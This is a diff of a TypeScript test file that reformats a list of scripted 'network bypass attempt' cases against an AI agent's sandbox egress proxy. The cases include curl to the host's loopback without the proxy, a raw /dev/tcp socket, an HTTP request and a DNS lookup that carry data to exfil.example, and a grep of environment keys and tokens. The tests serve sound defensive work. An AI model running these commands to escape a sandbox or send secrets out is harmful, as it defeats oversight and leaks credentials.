@@ -12,7 +12,9 @@ import path from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { cliAsync, fixtureRepo, git } from './support/repo.js'
 
-const bash = (command: string) => ({ tool_calls: [{ name: 'bash', arguments: { command: `${command}; echo "exit=$?"; true`, description: 'network bypass attempt' } }] })
+const bash = (command: string) => ({
+  tool_calls: [{ name: 'bash', arguments: { command: `${command}; echo "exit=$?"; true`, description: 'network bypass attempt' } }],
+})
 /** The egress port inside the namespace (sandbox/bridge.ts EGRESS_PORT). */
 const BRIDGE = 'http://127.0.0.1:15080'
 
@@ -25,9 +27,22 @@ interface Bypass {
 }
 
 const BYPASSES: Bypass[] = [
-  { id: 'T2B90', purpose: "proxy variables ignored: curl --noproxy '*' to the host's loopback service", command: (p) => `curl -fsS -m 5 --noproxy '*' http://127.0.0.1:${p}/noproxy` },
-  { id: 'T2B91', purpose: "a raw socket (bash /dev/tcp) to the host's loopback service", command: (p) => `(exec 3<>/dev/tcp/127.0.0.1/${p} && printf 'GET /devtcp HTTP/1.0\\r\\n\\r\\n' >&3)` },
-  { id: 'T2B92', purpose: 'plain http through the proxy variables to a host not allowed', command: () => 'curl -fsS -m 5 http://exfil.example/plain?data=secret', refused: () => 'exfil.example:80' },
+  {
+    id: 'T2B90',
+    purpose: "proxy variables ignored: curl --noproxy '*' to the host's loopback service",
+    command: (p) => `curl -fsS -m 5 --noproxy '*' http://127.0.0.1:${p}/noproxy`,
+  },
+  {
+    id: 'T2B91',
+    purpose: "a raw socket (bash /dev/tcp) to the host's loopback service",
+    command: (p) => `(exec 3<>/dev/tcp/127.0.0.1/${p} && printf 'GET /devtcp HTTP/1.0\\r\\n\\r\\n' >&3)`,
+  },
+  {
+    id: 'T2B92',
+    purpose: 'plain http through the proxy variables to a host not allowed',
+    command: () => 'curl -fsS -m 5 http://exfil.example/plain?data=secret',
+    refused: () => 'exfil.example:80',
+  },
   {
     id: 'T2B93',
     purpose: 'CONNECT relayed through a local process to the proxy',
@@ -37,7 +52,12 @@ const BYPASSES: Bypass[] = [
   },
   { id: 'T2B94', purpose: 'a DNS lookup that carries data', command: () => 'getent ahosts c2VjcmV0.exfil.example' },
   { id: 'T2B95', purpose: "IPv6: the host's loopback service on [::1]", command: (p) => `curl -fsS -m 5 --noproxy '*' -6 "http://[::1]:${p}/v6"` },
-  { id: 'T2B96', purpose: 'a non-standard port through the proxy', command: () => `curl -fsS -m 5 -x ${BRIDGE} http://exfil.example:8443/port`, refused: () => 'exfil.example:8443' },
+  {
+    id: 'T2B96',
+    purpose: 'a non-standard port through the proxy',
+    command: () => `curl -fsS -m 5 -x ${BRIDGE} http://exfil.example:8443/port`,
+    refused: () => 'exfil.example:8443',
+  },
   { id: 'T2B97', purpose: 'the provider key from the environment', command: () => 'env | grep -i -E "key|token|proxy" | sed "s/=.*/=<set>/"' },
 ]
 
